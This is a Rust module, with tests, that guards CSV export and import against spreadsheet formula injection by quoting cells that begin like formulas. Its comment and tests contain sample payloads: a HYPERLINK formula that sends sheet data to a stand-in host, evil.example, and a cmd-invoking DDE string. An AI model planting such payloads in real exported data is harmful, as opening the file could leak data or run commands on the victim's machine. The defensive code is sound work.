//! Cells of the CSV files the product writes and reads.
//!
//! A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula (and a
//! leading tab or carriage return can hide one): a department named
//! `=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a link that sends
//! the sheet's data away. Every CSV the product writes puts a `'` before such a cell
//! (OWASP's advice), which spreadsheets show as the text itself; every CSV it reads
//! takes that `'` away again, so a cell reads back unchanged.

/// The characters a spreadsheet reads a formula after.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell needs the `'`: it begins like a formula (a plain number such as
/// `-0.5` does not), or it begins with a `'` that reading would otherwise take away.
fn needs_quote(cell: &str) -> bool {
    match cell.strip_prefix('\'') {
        Some(rest) => needs_quote(rest),
        None => cell.starts_with(TRIGGERS) && cell.trim().parse::<f64>().is_err(),
    }
}

/// The cell as written to a CSV file.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A cell as read from a CSV file: [`neutralise`] undone.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::{neutralise, restore};

    #[test]
    fn formulas_are_written_as_text_and_numbers_as_numbers() {
        assert_eq!(
            neutralise("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
        );
        assert_eq!(
            neutralise("@SUM(1+1)*cmd|\" /C calc\"!A0"),
            "'@SUM(1+1)*cmd|\" /C calc\"!A0"
        );
        assert_eq!(neutralise("+1+1"), "'+1+1");
        assert_eq!(neutralise("\tx"), "'\tx");
        assert_eq!(neutralise("-0.5"), "-0.5");
        assert_eq!(neutralise("Quality"), "Quality");
        assert_eq!(neutralise("质量部"), "质量部");
    }

    proptest! {
        #[test]
        fn a_cell_reads_back_unchanged(cell in ".{0,20}") {
            let written = neutralise(&cell);
            prop_assert_eq!(restore(&written), cell.as_str());
        }
    }
}
